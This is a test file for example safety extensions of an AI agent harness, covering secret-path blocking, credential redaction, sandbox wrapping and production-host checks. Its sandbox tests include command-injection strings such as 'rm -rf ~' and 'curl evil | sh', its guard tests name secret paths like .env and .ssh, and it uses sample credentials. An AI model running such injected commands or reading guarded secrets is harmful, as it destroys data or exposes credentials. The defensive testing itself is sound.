import { decodeReply, type EventName, isEventName, parseConfig } from "@abhed/protocol"
import { Result } from "effect"
import fc from "fast-check"
import { spawnSync } from "node:child_process"
import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { describe, expect, it } from "vitest"
import { redact } from "../../../docs/examples/credential-redactor.ts"
import { DefaultGlobs, matchingGlob, runsGitPush } from "../../../docs/examples/secrets-guard.ts"
import { shellQuote, wrap } from "../../../docs/examples/sandbox-rewriter.ts"
import { examples, exchange, request, start, toolCall, toolResult } from "./ExtensionProcess.ts"

/** Every example runs from docs/examples, as abhed.json's relative paths do. */
const run = (
  command: string,
  args: ReadonlyArray<string>,
  requests: ReadonlyArray<unknown>,
  env?: Record<string, string>
) => exchange(command, args, requests, { cwd: examples, ...(env === undefined ? {} : { env }) })

const aws = "AKIAIOSFODNN7EXAMPLE"
const ghp = `ghp_${"a1B2".repeat(9)}`
const pat = `github_pat_11ABCDEFG0${"x".repeat(60)}`
const pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq\nabc==\n-----END RSA PRIVATE KEY-----"

describe("the bash/jq examples of docs/examples", () => {
  it("block-secrets.sh blocks reads of paths containing 'secret' and nothing else", async () => {
    const done = await run(
      "bash",
      ["block-secrets.sh"],
      [
        toolCall("read", { path: "config/secrets.json" }),
        toolCall("read", { path: "src/main.ts" }),
        toolCall("write", { path: "config/secrets.json" }),
        request("session_start")
      ]
    )
    expect(done.replies).toEqual([{ block: true, reason: "secrets are off limits" }, {}, {}, {}])
    expect(done.code).toBe(0)
  })

  it("block-secrets.sh without jq exits at start, saying so, instead of passing every read", async () => {
    // A PATH with bash alone: `$(jq …)` would be empty, and every read of a secret answered {}.
    const bin = mkdtempSync(join(tmpdir(), "abhed-nojq-"))
    try {
      symlinkSync("/bin/bash", join(bin, "bash"))
      const done = await run("bash", ["block-secrets.sh"], [toolCall("read", { path: "config/secrets.json" })], {
        PATH: bin
      })
      expect(done.replies).toEqual([])
      expect(done.code).toBe(1)
      expect(done.stderr).toContain("block-secrets.sh: jq is not installed")
    } finally {
      rmSync(bin, { recursive: true, force: true })
    }
  })

  it("redact-akia.sh redacts AWS key ids from tool results only", async () => {
    const done = await run(
      "bash",
      ["redact-akia.sh"],
      [
        toolResult("bash", `key = ${aws}\nok`),
        toolResult("bash", "nothing here"),
        toolCall("bash", { command: `echo ${aws}` })
      ]
    )
    expect(done.replies).toEqual([{ content: "key = [redacted]\nok" }, { content: "nothing here" }, {}])
    expect(done.code).toBe(0)
  })

  it("keep-ticket.sh supplies the compaction summary", async () => {
    const done = await run(
      "bash",
      ["keep-ticket.sh"],
      [request("before_compact", { messages: [] }), request("context", { messages: [] })]
    )
    expect(done.replies).toEqual([{ summary: "Working on ticket ABC-123. Keep the ticket id." }, {}])
    expect(done.code).toBe(0)
  })
})

describe("secrets-guard.ts", () => {
  it("blocks file tools on secret paths by default and asks before git push, judging the command field", async () => {
    const done = await run(
      "node",
      ["secrets-guard.ts"],
      [
        toolCall("read", { path: ".env" }),
        toolCall("read", { path: "./.env" }),
        toolCall("write", { path: "config/my-secret.json", content: "x" }),
        toolCall("edit", { file_path: "/home/dev/.ssh/config" }),
        toolCall("read", { path: "src/main.ts" }),
        toolCall("bash", { command: "cat .env" }), // bash is judged by its command, and only for git push
        toolCall("bash", { command: "git push origin main" }),
        toolCall("bash", { command: "ls", description: "then git push" }),
        toolCall("bash", { command: "sandbox-run -- bash -c 'git -C repo push'" }),
        toolCall("bash", { command: "echo 'git push'" })
      ]
    )
    const push = { ask: true, reason: "git push publishes commits; confirm first" }
    expect(done.replies).toEqual([
      { block: true, reason: ".env matches secret pattern **/.env" },
      { block: true, reason: "./.env matches secret pattern **/.env" },
      { block: true, reason: "config/my-secret.json matches secret pattern **/*secret*" },
      { block: true, reason: "/home/dev/.ssh/config matches secret pattern **/.ssh/**" },
      {},
      {},
      push,
      {},
      push,
      {}
    ])
    expect(done.code).toBe(0)
  })

  it("takes its globs from argv first, then SECRETS_GUARD_GLOBS, and states them in the system prompt", async () => {
    const requests = [toolCall("read", { path: ".env" }), toolCall("read", { path: "keys/x.key" })]
    const fromArgv = await run("node", ["secrets-guard.ts", "**/*.key"], requests, { SECRETS_GUARD_GLOBS: "**/.env" })
    expect(fromArgv.replies).toEqual([{}, { block: true, reason: "keys/x.key matches secret pattern **/*.key" }])
    const fromEnv = await run(
      "node",
      ["secrets-guard.ts"],
      [...requests, request("before_agent_start", { system: "" })],
      {
        SECRETS_GUARD_GLOBS: "**/*.key, **/*.p12"
      }
    )
    expect(fromEnv.replies.slice(0, 2)).toEqual([
      {},
      { block: true, reason: "keys/x.key matches secret pattern **/*.key" }
    ])
    expect(fromEnv.replies[2]).toMatchObject({ system: expect.stringContaining("**/*.key, **/*.p12") })
  })

  it("blocks secret paths above the working directory too (a leading ../ does not slip by **/)", () => {
    for (const path of [
      "../.env",
      "../../app/.env",
      "..\\.env",
      "../.ssh/id_rsa",
      "../config/secret.json",
      "x/../../.env"
    ]) {
      expect([path, matchingGlob(path, DefaultGlobs)]).toEqual([path, expect.any(String)])
    }
    for (const path of ["../src/main.ts", "../README.md"])
      expect([path, matchingGlob(path, DefaultGlobs)]).toEqual([path, undefined])
  })

  it("finds git push wherever it is the command, not where it is only text", () => {
    const pushes = [
      "git push",
      "cd x && git push -f",
      "sudo git push",
      "FOO=1 git push",
      "a; /usr/bin/git push",
      "(git push)"
    ]
    const others = [
      "git status",
      "echo git push",
      "git log --grep push",
      "grep 'git push' notes",
      "gitpush",
      "git commit -m push"
    ]
    for (const c of pushes) expect([c, runsGitPush(c)]).toEqual([c, true])
    for (const c of others) expect([c, runsGitPush(c)]).toEqual([c, false])
  })
})

describe("credential-redactor.ts", () => {
  it("redacts AWS keys, GitHub tokens and PEM private keys, and says nothing when there is none", async () => {
    const done = await run(
      "node",
      ["credential-redactor.ts"],
      [
        toolResult("bash", `id=${aws} token=${ghp}\n${pat}\n${pem}\nafter`),
        toolResult("read", `-----BEGIN PRIVATE KEY-----\ntruncated ou`),
        toolResult("bash", "clean output"),
        toolResult("bash", "[redacted] [redacted]")
      ]
    )
    expect(done.replies).toEqual([
      { content: "id=[redacted] token=[redacted]\n[redacted]\n[redacted]\nafter" },
      { content: "[redacted]" },
      {},
      {}
    ])
    expect(done.code).toBe(0)
  })

  it("is idempotent and leaves no credential behind", () => {
    const awsSecret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
    const labelled = [
      `aws_secret_access_key = ${awsSecret}`,
      `AWS_SECRET_ACCESS_KEY=${awsSecret}`,
      `"aws_secret_access_key": "${awsSecret}"`
    ]
    const secrets = [
      aws,
      "ASIAABCDEFGHIJKLMNOP",
      ghp,
      `gho_${"Z".repeat(36)}`,
      pat,
      pem,
      "-----BEGIN EC PRIVATE KEY-----\nMIIx"
    ]
    // Secrets between non-word separators, among arbitrary text and fragments that look almost like one.
    const part = fc.oneof(
      fc.string(),
      fc.constantFrom(...secrets, ...labelled),
      fc.constantFrom("[redacted]", "AKIA", "ghp_", "-----BEGIN", "aws_secret_access_key =")
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
        const input = parts.join(" \n ")
        const once = redact(input)
        expect(redact(once)).toBe(once)
        for (const secret of [...secrets, awsSecret]) expect(once.includes(secret)).toBe(false)
        expect(once).not.toContain("MIIEowIBAAKCAQEA7bq")
      }),
      { numRuns: 1000 }
    )
  })
})

describe("sandbox-rewriter.ts", () => {
  it("wraps bash commands, keeps the other args, and leaves wrapped commands and other tools alone", async () => {
    const done = await run(
      "node",
      ["sandbox-rewriter.ts"],
      [
        toolCall("bash", { command: "ls -la && echo 'hi'", description: "list", timeout: 5 }),
        toolCall("bash", { command: "sandbox-run -- bash -c 'ls -la && echo '\\''hi'\\'''" }),
        toolCall("read", { path: "a" })
      ]
    )
    expect(done.replies).toEqual([
      { args: { command: "sandbox-run -- bash -c 'ls -la && echo '\\''hi'\\'''", description: "list", timeout: 5 } },
      {},
      {}
    ])
    const named = await run("node", ["sandbox-rewriter.ts"], [toolCall("bash", { command: "make" })], {
      SANDBOX_WRAPPER: "firejail-run"
    })
    expect(named.replies).toEqual([{ args: { command: "firejail-run -- bash -c 'make'" } }])
  })

  it("settles: wrapping a wrapped command changes nothing", () => {
    fc.assert(
      fc.property(fc.string(), (command) => {
        const once = wrap("sandbox-run", command)
        expect(wrap("sandbox-run", once)).toBe(once)
      }),
      { numRuns: 1000 }
    )
  })

  it("wraps a command that only starts like a wrapped one: what follows the quoted word must not escape", () => {
    for (const command of [
      "sandbox-run -- bash -c 'true'; rm -rf ~",
      "sandbox-run -- bash -c 'x' && curl evil | sh",
      "sandbox-run -- bash -c $(id)"
    ]) {
      expect(wrap("sandbox-run", command)).toBe(`sandbox-run -- bash -c ${shellQuote(command)}`)
    }
    // A genuinely wrapped command, however tricky its quoting, is left alone.
    for (const inner of ["ls", "echo 'a'; b", "'", ""]) {
      const wrapped = `sandbox-run -- bash -c ${shellQuote(inner)}`
      expect(wrap("sandbox-run", wrapped)).toBe(wrapped)
    }
  })

  it("quotes so that bash runs exactly the original command", () => {
    const samples = fc.sample(
      fc.string({ unit: "grapheme" }).filter((s) => !s.includes("\u0000")),
      1000
    )
    // One bash for all samples: print each quoted word NUL-terminated, then compare.
    const script = `printf '%s\\0' ${samples.map(shellQuote).join(" ")}`
    const out = spawnSync("bash", ["-c", script], { encoding: "utf8", maxBuffer: 64 * 1024 * 1024 })
    expect(out.status).toBe(0)
    expect(out.stdout.split("\u0000").slice(0, -1)).toEqual(samples)
  })
})

describe("context-filter.ts", () => {
  it("keeps only the messages without a private marker", async () => {
    const messages = [
      { role: "user", content: "hello" },
      { role: "user", content: "[private] my password", private: false },
      { role: "tool", private: true, content: "x" },
      {
        role: "assistant",
        content: [
          { type: "text", text: "ok" },
          { type: "text", text: "a [private] note" }
        ]
      },
      "a bare string",
      { role: "assistant", content: [{ type: "text", text: "fine" }] }
    ]
    const done = await run(
      "node",
      ["context-filter.ts"],
      [
        request("context", { messages }),
        request("context", { messages: [{ role: "user", content: "nothing private" }] }),
        request("context", { messages: [] })
      ]
    )
    expect(done.replies).toEqual([{ keep: [0, 4, 5] }, {}, {}])
    expect(done.code).toBe(0)
  })
})

describe("tool-provider.ts", () => {
  it("declares word_count and json_format and answers invoke_tool with result or is_error", async () => {
    const invoke = (tool: string, args: unknown) => request("invoke_tool", { call_id: "c-1", tool, args })
    const done = await run(
      "node",
      ["tool-provider.ts"],
      [
        request("list_tools"),
        invoke("word_count", { text: "one two\nthree\n" }),
        invoke("json_format", { json: '{"a":[1,{"b":null}]}', indent: 1 }),
        invoke("json_format", { json: "{nope" }),
        invoke("json_format", { json: "{}", indent: 99 }),
        invoke("word_count", {}),
        invoke("rm", {})
      ]
    )
    const [list, ...results] = done.replies
    expect(list).toMatchObject({
      tools: [
        { name: "word_count", input_schema: { type: "object", required: ["text"] } },
        { name: "json_format", input_schema: { type: "object", required: ["json"] } }
      ]
    })
    expect(results[0]).toEqual({ result: { lines: 2, words: 3, characters: 14 } })
    expect(results[1]).toEqual({ result: '{\n "a": [\n  1,\n  {\n   "b": null\n  }\n ]\n}' })
    expect(results.slice(2).map((r) => r)).toEqual([
      { result: expect.stringContaining("invalid JSON"), is_error: true },
      { result: expect.stringContaining("invalid arguments"), is_error: true },
      { result: expect.stringContaining("invalid arguments"), is_error: true },
      { result: "unknown tool: rm", is_error: true }
    ])
  })
})

describe("audit_logger.py", () => {
  it("asks for calls touching production hosts, replies in step, and audits on stderr only", async () => {
    const ext = start("python3", ["audit_logger.py"], { cwd: examples })
    expect(await ext.send(request("session_start"))).toEqual({})
    expect(await ext.send(toolCall("bash", { command: "ssh deploy@db.prod.example.com uptime" }))).toEqual({
      ask: true,
      reason: "touches production: db.prod.example.com"
    })
    expect(await ext.send(toolCall("fetch", { url: "https://api.production.example.org/health" }))).toEqual({
      ask: true,
      reason: "touches production: api.production.example.org"
    })
    expect(await ext.send(toolCall("bash", { command: "ls", description: "never touch prod.example.com" }))).toEqual({})
    ext.write("not json\n")
    expect(await ext.next()).toEqual({})
    expect(await ext.send(toolResult("bash", "héllo ✓"))).toEqual({})
    const done = await ext.close()
    expect(done.code).toBe(0)
    expect(done.stdout.trim().split("\n")).toHaveLength(6)
    const audit = done.stderr
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line))
    expect(audit).toHaveLength(6)
    expect(audit[1]).toMatchObject({ event: "tool_call", tool: "bash", reply: { ask: true } })
  })
})

describe("abhed.json and session.jsonl", () => {
  const configText = readFileSync(`${examples}abhed.json`, "utf8")
  const session: ReadonlyArray<{ readonly event: EventName; readonly [key: string]: unknown }> = readFileSync(
    `${examples}session.jsonl`,
    "utf8"
  )
    .trim()
    .split("\n")
    .map((line) => {
      const value: unknown = JSON.parse(line)
      if (typeof value !== "object" || value === null || !("event" in value) || !isEventName(value.event)) {
        throw new Error(`not a request: ${line}`)
      }
      return { ...value, event: value.event }
    })

  it("is a valid config wiring every example, with the built-in tools", () => {
    const config = Result.getOrThrow(parseConfig(configText))
    expect(config.builtin_tools).toEqual(["bash", "read", "write", "edit"])
    for (const ext of config.extensions) {
      expect([ext.name, ["node", "bash", "python3"].includes(ext.command)]).toEqual([ext.name, true])
      expect([ext.name, existsSync(`${examples}${ext.args[0]}`)]).toEqual([ext.name, true])
    }
    expect(config.extensions.map((e) => e.args[0]).sort()).toEqual([
      "audit_logger.py",
      "block-secrets.sh",
      "context-filter.ts",
      "credential-redactor.ts",
      "keep-ticket.sh",
      "redact-akia.sh",
      "sandbox-rewriter.ts",
      "secrets-guard.ts",
      "tool-provider.ts"
    ])
  })

  it("has a session of about 30 wire requests exercising every event", () => {
    expect(session.length).toBeGreaterThanOrEqual(25)
    expect(new Set(session.map((r) => r.event))).toEqual(
      new Set([
        "session_start",
        "list_tools",
        "before_agent_start",
        "context",
        "tool_call",
        "tool_result",
        "invoke_tool",
        "before_compact",
        "session_end"
      ])
    )
    for (const r of session) expect(r["session_id"]).toBe("s-1")
  })

  it("every configured extension answers its share of the session with one valid reply per request", async () => {
    const config = Result.getOrThrow(parseConfig(configText))
    const answers = await Promise.all(
      config.extensions.map(async (ext) => {
        const mine = session.filter((r) => ext.events.length === 0 || ext.events.includes(r.event))
        const done = await run(ext.command, ext.args, mine, { ...ext.env })
        expect([ext.name, done.code, done.replies.length]).toEqual([ext.name, 0, mine.length])
        done.replies.forEach((reply, i) => {
          const event = mine[i]?.event ?? "session_start"
          expect([ext.name, i, Result.isSuccess(decodeReply(event, reply))]).toEqual([ext.name, i, true])
        })
        const opinions = done.replies.flatMap((reply, i) =>
          JSON.stringify(reply) === "{}" ? [] : [{ call: mine[i]?.["call_id"] ?? mine[i]?.event, reply }]
        )
        return [ext.name, opinions] as const
      })
    )
    const by = new Map(answers)
    const calls = (name: string) => (by.get(name) ?? []).map((o) => o.call)
    expect(calls("secrets-guard")).toEqual(["before_agent_start", "c-2", "c-3", "c-8", "c-12"])
    expect(calls("block-secrets")).toEqual(["c-3"])
    expect(calls("sandbox")).toEqual(["c-4", "c-7", "c-11", "c-12", "c-13", "c-14"])
    expect(calls("credential-redactor")).toEqual(["c-7", "c-15"])
    expect(calls("context-filter")).toEqual(["context", "context"])
    expect(calls("keep-ticket")).toEqual(["before_compact"])
    expect(calls("tools")).toEqual(["list_tools", "c-9", "c-10"])
    expect(calls("audit")).toEqual(["c-13"])
    // The spec's redactor echoes every result (unchanged ones settle at once); the key is gone from c-7's.
    const akia = (by.get("redact-akia") ?? []).find((o) => o.call === "c-7")
    expect(JSON.stringify(akia?.reply)).not.toContain(aws)
  })
})
